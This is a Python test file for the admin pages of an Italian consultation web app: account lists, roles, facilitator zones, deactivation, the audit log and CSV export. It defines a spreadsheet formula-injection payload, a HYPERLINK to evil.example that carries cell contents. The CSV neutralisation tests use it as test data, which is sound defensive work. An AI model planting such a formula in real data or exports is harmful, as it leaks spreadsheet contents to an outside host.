"""Admin pages: accounts, roles, facilitators' zones, deactivation and the audit log."""

import csv
import io
import re
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select

from consult.exports import neutralise, write_csv
from consult.extensions import db
from consult.models import AuditEvent, Role, StakeholderCategory, User, Zone
from consult.models.people import utcnow
from consult.permissions import can
from tests.conftest import PASSWORD, csrf_token, login

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Clicca qui")'


def user_id(app, email: str) -> int:
    with app.app_context():
        return db.session.scalar(select(User.id).where(User.email == email))


def fetch_user(app, user_id: int) -> dict:
    """The account as plain data, read in its own app context."""
    with app.app_context():
        user = db.session.get(User, user_id)
        return {
            "role": user.role,
            "active": user.active,
            "zones": [zone.code for zone in user.facilitated_zones],
            "session_token": user.session_token,
        }


def events(app, action: str) -> list[dict]:
    with app.app_context():
        rows = db.session.scalars(select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.id))
        return [
            {"actor": event.actor.email if event.actor else None, "target": event.target_id, **event.details}
            for event in rows
        ]


def add_people(app, count: int, **fields) -> None:
    from consult.auth.services import create_user

    with app.app_context():
        for number in range(count):
            create_user(
                f"person{number:02d}@example.org",
                PASSWORD,
                display_name=fields.get("display_name", f"Persona {number:02d}"),
                organisation=fields.get("organisation"),
                confirmed=True,
            )
        db.session.commit()


def table_rows(html: str) -> list[str]:
    body = re.search(r"<tbody>(.*?)</tbody>", html, re.S)
    return re.findall(r"<tr>(.*?)</tr>", body.group(1), re.S) if body else []


def post(client, path: str, data: dict | None = None, **kwargs):
    """POST a form as the browser would, with the CSRF token the session holds."""
    return client.post(path, data={"csrf_token": csrf_token(client), **(data or {})}, **kwargs)


@pytest.fixture
def admin(client_as):
    return client_as("admin")


# --- the list of accounts ---------------------------------------------------------------------


def test_users_are_listed_in_pages_of_25(app, admin):
    add_people(app, 30)  # with the 5 personas: 35
    first = admin.get("/admin/users").get_data(as_text=True)
    assert len(table_rows(first)) == 25
    assert "35 account trovati" in first
    assert 'class="pagination-wrapper"' in first and 'aria-label="Pagine dell\'elenco degli account"' in first
    assert 'aria-current="page"' in first
    second = admin.get("/admin/users?page=2").get_data(as_text=True)
    assert len(table_rows(second)) == 10
    assert 'href="/admin/users?page=1"' in second
    # A page past the end is empty, not an error.
    assert admin.get("/admin/users?page=9").status_code == 200


def test_the_table_is_accessible(admin):
    html = admin.get("/admin/users").get_data(as_text=True)
    assert "<caption" in html
    assert html.count('scope="col"') == 9
    assert 'scope="row"' in html
    assert html.count("<h1") == 1
    assert '<label for="role">' in html and '<label class="active" for="q">' in html
    assert " style=" not in html and "<script>" not in html


def listed_emails(client, **query) -> set[str]:
    html = client.get("/admin/users", query_string=query).get_data(as_text=True)
    return set(re.findall(r"<td>([^<@]+@example\.org)</td>", html))


def test_search_by_name_email_or_organisation_ignores_case(app, admin, personas):
    from consult.auth.services import create_user

    add_people(app, 3, organisation="Comune di Chieri")
    with app.app_context():
        create_user("g.rossi@example.org", PASSWORD, display_name="Giulia Rossi", confirmed=True)
        db.session.commit()

    assert listed_emails(admin, q="rOsSi") == {"g.rossi@example.org"}
    assert listed_emails(admin, q="G.ROSSI@") == {"g.rossi@example.org"}
    assert len(listed_emails(admin, q=" chieri ")) == 3
    assert listed_emails(admin, q="nessuno così") == set()
    # LIKE wildcards are searched for, not obeyed.
    assert listed_emails(admin, q="%") == set()
    assert listed_emails(admin, q="_") == set()


def test_filters_by_role_zone_and_state(app, admin, personas):
    def emails(**query) -> set[str]:
        return listed_emails(admin, **query)

    assert emails(role="planner") == {"planner@example.org"}
    assert emails(role="facilitator") == {"facilitator@example.org", "other.facilitator@example.org"}
    # Zone 2: nobody refers to it, the other facilitator runs it.
    assert emails(zone="2") == {"other.facilitator@example.org"}
    assert len(emails(zone="1")) == 5  # every persona refers to zone 1
    # A filter that makes no sense is ignored, not an error.
    response = admin.get("/admin/users?role=emperor&zone=99&page=x&_external=1")
    assert response.status_code == 200
    assert len(table_rows(response.get_data(as_text=True))) == 5

    stakeholder = user_id(app, personas["stakeholder"].email)
    with app.app_context():
        user = db.session.get(User, stakeholder)
        user.deleted_at, user.email, user.display_name, user.active = utcnow(), None, None, False
        db.session.commit()
    assert "stakeholder@example.org" not in emails()
    html = admin.get("/admin/users?state=deleted").get_data(as_text=True)
    assert len(table_rows(html)) == 1 and "account eliminato" in html
    assert emails(state="inactive") == set()


# --- changing an account ---------------------------------------------------------------------


def test_role_change_is_saved_and_audited(app, admin, personas):
    stakeholder = user_id(app, personas["stakeholder"].email)
    page = admin.get(f"/admin/users/{stakeholder}").get_data(as_text=True)
    assert '<option value="stakeholder" selected>Partecipante</option>' in page
    response = post(admin, f"/admin/users/{stakeholder}", {"role": "planner"})
    assert response.status_code == 303
    assert response.headers["Location"] == f"/admin/users/{stakeholder}"
    assert fetch_user(app, stakeholder)["role"] == Role.PLANNER
    assert events(app, "user.role_changed") == [
        {"actor": "admin@example.org", "target": stakeholder, "from": "stakeholder", "to": "planner"}
    ]
    assert "Modifiche salvate." in admin.get(response.headers["Location"]).get_data(as_text=True)


def test_facilitator_zones(app, admin, personas):
    stakeholder = user_id(app, personas["stakeholder"].email)
    response = post(admin, f"/admin/users/{stakeholder}", {"role": "facilitator", "zones": ["4", "7"]})
    assert response.status_code == 303
    assert fetch_user(app, stakeholder)["zones"] == [4, 7]
    with app.app_context():
        user = db.session.get(User, stakeholder)
        zones = {zone.code: zone for zone in db.session.scalars(select(Zone))}
        assert can(user, "zone.facilitate", zones[4]) and can(user, "zone.facilitate", zones[7])
        assert not can(user, "zone.facilitate", zones[1])
    assert events(app, "user.zones_changed") == [
        {"actor": "admin@example.org", "target": stakeholder, "added": [4, 7], "removed": []}
    ]

    post(admin, f"/admin/users/{stakeholder}", {"role": "facilitator", "zones": ["7", "9"]})
    assert fetch_user(app, stakeholder)["zones"] == [7, 9]
    assert events(app, "user.zones_changed")[-1]["added"] == [9]
    assert events(app, "user.zones_changed")[-1]["removed"] == [4]

    # Another role holds no zones, and the page says so.
    response = post(admin, f"/admin/users/{stakeholder}", {"role": "planner", "zones": ["7"]}, follow_redirects=True)
    assert "valgono solo per i facilitatori" in response.get_data(as_text=True)
    assert fetch_user(app, stakeholder)["zones"] == []
    assert events(app, "user.zones_changed")[-1]["removed"] == [7, 9]


def test_nothing_changed_records_nothing(app, admin, personas):
    facilitator = user_id(app, personas["facilitator"].email)
    response = post(
        admin, f"/admin/users/{facilitator}", {"role": "facilitator", "zones": ["1"]}, follow_redirects=True
    )
    assert "Nessuna modifica da salvare." in response.get_data(as_text=True)
    assert events(app, "user.role_changed") == [] and events(app, "user.zones_changed") == []


def test_bad_form_values_are_refused_with_400(app, admin, personas):
    stakeholder = user_id(app, personas["stakeholder"].email)
    assert post(admin, f"/admin/users/{stakeholder}", {"role": "emperor"}).status_code == 400
    assert post(admin, f"/admin/users/{stakeholder}", {"role": "facilitator", "zones": ["12"]}).status_code == 400
    assert post(admin, f"/admin/users/{stakeholder}", {"role": "facilitator", "zones": ["x"]}).status_code == 400
    unchanged = fetch_user(app, stakeholder)
    assert (unchanged["role"], unchanged["zones"]) == (Role.STAKEHOLDER, [])


def test_unknown_account_is_404(admin):
    assert admin.get("/admin/users/999999").status_code == 404
    assert post(admin, "/admin/users/999999", {"role": "admin"}).status_code == 404
    token = csrf_token(admin, "/admin/users")
    assert admin.post("/admin/users/999999/deactivate", data={"csrf_token": token}).status_code == 404


def test_missing_csrf_token_is_refused(app, admin, personas):
    stakeholder = user_id(app, personas["stakeholder"].email)
    assert admin.post(f"/admin/users/{stakeholder}", data={"role": "admin"}).status_code == 400
    assert admin.post(f"/admin/users/{stakeholder}/deactivate").status_code == 400
    response = admin.post(f"/admin/users/{stakeholder}/deactivate", data={"csrf_token": "forged"})
    assert response.status_code == 400
    assert fetch_user(app, stakeholder)["role"] == Role.STAKEHOLDER
    assert fetch_user(app, stakeholder)["active"] is True


# --- deactivating ----------------------------------------------------------------------------


def test_deactivation_signs_the_person_out_and_keeps_them_out(app, admin, client_as, personas):
    stakeholder_client = client_as("stakeholder")
    assert stakeholder_client.get("/account").status_code == 200
    stakeholder = user_id(app, personas["stakeholder"].email)
    token_before = fetch_user(app, stakeholder)["session_token"]

    response = post(admin, f"/admin/users/{stakeholder}/deactivate", follow_redirects=True)
    assert response.status_code == 200
    assert "Account disattivato" in response.get_data(as_text=True)
    assert fetch_user(app, stakeholder)["active"] is False
    assert fetch_user(app, stakeholder)["session_token"] != token_before
    assert events(app, "user.deactivated") == [{"actor": "admin@example.org", "target": stakeholder}]

    # The session they had open is gone at once, and signing in again does not work.
    assert stakeholder_client.get("/account").status_code == 302
    assert login(app.test_client(), personas["stakeholder"].email).status_code != 302

    response = post(admin, f"/admin/users/{stakeholder}/reactivate")
    assert response.status_code == 303
    assert fetch_user(app, stakeholder)["active"] is True
    assert events(app, "user.reactivated") == [{"actor": "admin@example.org", "target": stakeholder}]
    assert login(app.test_client(), personas["stakeholder"].email).status_code == 302


def test_deactivating_twice_is_explained_not_an_error(app, admin, personas):
    stakeholder = user_id(app, personas["stakeholder"].email)
    post(admin, f"/admin/users/{stakeholder}/deactivate")
    response = post(admin, f"/admin/users/{stakeholder}/deactivate", follow_redirects=True)
    assert response.status_code == 200
    assert "già disattivato" in response.get_data(as_text=True)
    assert len(events(app, "user.deactivated")) == 1


def test_the_last_admin_cannot_demote_or_deactivate_themselves(app, admin, personas):
    me = user_id(app, personas["admin"].email)
    response = post(admin, f"/admin/users/{me}", {"role": "planner"})
    assert response.status_code == 400
    assert "ultimo amministratore attivo" in response.get_data(as_text=True)
    assert '<option value="planner" selected>' in response.get_data(as_text=True)  # what was chosen stays
    response = post(admin, f"/admin/users/{me}/deactivate")
    assert response.status_code == 303
    assert "ultimo amministratore attivo" in admin.get(response.headers["Location"]).get_data(as_text=True)
    assert fetch_user(app, me)["role"] == Role.ADMIN and fetch_user(app, me)["active"] is True
    assert events(app, "user.role_changed") == [] and events(app, "user.deactivated") == []

    # With a second admin, stepping down is fine.
    planner = user_id(app, personas["planner"].email)
    assert post(admin, f"/admin/users/{planner}", {"role": "admin"}).status_code == 303
    assert post(admin, f"/admin/users/{me}", {"role": "stakeholder"}).status_code == 303
    assert fetch_user(app, me)["role"] == Role.STAKEHOLDER
    # ...and the admin pages are closed to them at once.
    assert admin.get("/admin/users").status_code == 403


def test_a_deleted_account_can_be_seen_but_not_changed(app, admin, personas):
    stakeholder = user_id(app, personas["stakeholder"].email)
    with app.app_context():
        user = db.session.get(User, stakeholder)
        user.deleted_at, user.email, user.display_name = utcnow(), None, None
        db.session.commit()
    html = admin.get(f"/admin/users/{stakeholder}").get_data(as_text=True)
    assert "account eliminato" in html and "Salva le modifiche" not in html
    response = post(admin, f"/admin/users/{stakeholder}", {"role": "admin"})
    assert response.status_code == 409
    assert fetch_user(app, stakeholder)["role"] == Role.STAKEHOLDER


@pytest.mark.parametrize("persona", ["stakeholder", "facilitator", "other_facilitator", "planner"])
def test_only_admins_reach_the_admin_pages(app, client_as, personas, persona):
    client = client_as(persona)
    stakeholder = user_id(app, personas["stakeholder"].email)
    with app.app_context():
        category = db.session.scalar(select(StakeholderCategory.id).where(StakeholderCategory.code == "comune"))
    rules = [rule for rule in app.url_map.iter_rules() if rule.endpoint.startswith("admin.")]
    assert len(rules) == 11
    for rule in rules:
        path = rule.rule.replace("<int:user_id>", str(stakeholder))
        path = path.replace("<kind>", "categories").replace("<int:entry_id>", str(category))
        if "GET" in rule.methods:
            assert client.get(path).status_code == 403, path
        else:
            assert client.post(path, data={"csrf_token": csrf_token(client)}).status_code == 403, path
    assert fetch_user(app, stakeholder)["active"] is True


# --- the audit log ---------------------------------------------------------------------------


def test_audit_log_filters(app, admin, client_as, personas):
    client_as("stakeholder")
    login(app.test_client(), personas["planner"].email, "wrong password")

    def rows(**query) -> list[str]:
        response = admin.get("/admin/audit", query_string=query)
        assert response.status_code == 200
        return table_rows(response.get_data(as_text=True))

    everything = rows()
    assert everything, "no events"
    # Newest first: the admin's own sign-in came before the stakeholder's and the failed attempt.
    assert "Accesso non riuscito" in everything[0]

    failed = rows(action="auth.login_failed")
    assert len(failed) == 1 and "utente #" in failed[0]
    assert "anonimo" in failed[0]  # a failed attempt has no actor, only a target

    mine = rows(actor="STAKEHOLDER@")
    assert mine and all("stakeholder@example.org" in row for row in mine)

    today = datetime.now(ZoneInfo("Europe/Rome")).date()
    assert len(rows(date_from=today.isoformat(), date_to=today.isoformat())) == len(everything)
    assert rows(date_from=(today + timedelta(days=1)).isoformat()) == []
    assert rows(date_to=(today - timedelta(days=1)).isoformat()) == []
    # A date that is not one is pointed out, and ignored.
    html = admin.get("/admin/audit?date_from=ieri").get_data(as_text=True)
    assert 'aria-invalid="true"' in html and len(table_rows(html)) == len(everything)


def test_audit_log_describes_events(app, admin, personas):
    stakeholder = user_id(app, personas["stakeholder"].email)
    post(admin, f"/admin/users/{stakeholder}", {"role": "facilitator", "zones": ["3"]})
    html = admin.get("/admin/audit?action=user.zones_changed").get_data(as_text=True)
    [row] = table_rows(html)
    assert "Zone facilitate cambiate" in row
    assert f'href="/admin/users/{stakeholder}"' in row and f"utente #{stakeholder}" in row
    assert "aggiunte: 3; tolte: —" in row
    assert "Admin" in row and "admin@example.org" in row
    # The action filter offers what the log holds, by name.
    assert '<option value="user.zones_changed" selected>Zone facilitate cambiate</option>' in html


def test_audit_log_pages(app, admin):
    from consult import audit

    with app.app_context():
        for _number in range(60):
            audit.record("test.event")
        db.session.commit()
    html = admin.get("/admin/audit?action=test.event").get_data(as_text=True)
    assert len(table_rows(html)) == 50 and "60 eventi" in html
    assert 'href="/admin/audit?action=test.event&amp;page=2"' in html
    html = admin.get("/admin/audit?action=test.event&page=2").get_data(as_text=True)
    assert len(table_rows(html)) == 10
    assert "test.event" in table_rows(html)[0]  # no label known: the raw name
    assert "sistema" in table_rows(html)[0]  # no person, no address: a command on the server


def test_csv_export_neutralises_formulas_and_is_logged(app, admin):
    from consult.auth.services import create_user

    with app.app_context():
        create_user("evil@example.org", PASSWORD, display_name=EVIL_NAME, confirmed=True)
        db.session.commit()
    assert login(app.test_client(), "evil@example.org").status_code == 302

    response = admin.get("/admin/audit.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="consult-audit-')
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    table = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert table[0][:4] == ["Data e ora", "Chi", "Email", "Azione"]
    cells = [cell for row in table for cell in row]
    assert "'" + EVIL_NAME in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert events(app, "audit.exported") == [
        {"actor": "admin@example.org", "target": None, "rows": len(table) - 1, "filters": {}}
    ]

    # Filters apply to the download too, and are recorded with it.
    text = admin.get("/admin/audit.csv?action=auth.login").get_data(as_text=True)
    table = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert {row[3] for row in table[1:]} == {"Accesso"}
    assert {row[7] for row in table[1:]} == {"auth.login"}
    assert events(app, "audit.exported")[-1]["filters"] == {"action": "auth.login"}


def test_the_page_links_to_the_filtered_download(admin):
    html = admin.get("/admin/audit?action=auth.login&page=1").get_data(as_text=True)
    assert 'href="/admin/audit.csv?action=auth.login"' in html


# --- the export helper -----------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+39 011", "-2", "@SUM(A1)", "\tx", "\rx", " =x", "\ufeff=x", EVIL_NAME])
def test_neutralise_defuses_what_a_spreadsheet_would_run(text):
    assert neutralise(text) == "'" + text


# " =x" is not left alone (issue 10.9): spreadsheets skip leading spaces before they look for a formula.
@pytest.mark.parametrize("value", ["Torino", "1+1", "", " x=1", 42, -3, 1.5])
def test_neutralise_leaves_the_rest_alone(value):
    assert neutralise(value) == value


def test_write_csv():
    text = write_csv(["nome", "voto"], [["=cmd", 3], [None, -1]], delimiter=";")
    assert text == "\ufeffnome;voto\r\n'=cmd;3\r\n;-1\r\n"
    assert write_csv(["a", "b"], [["x, y", 'say "hi"']]).splitlines()[1] == '"x, y","say ""hi"""'
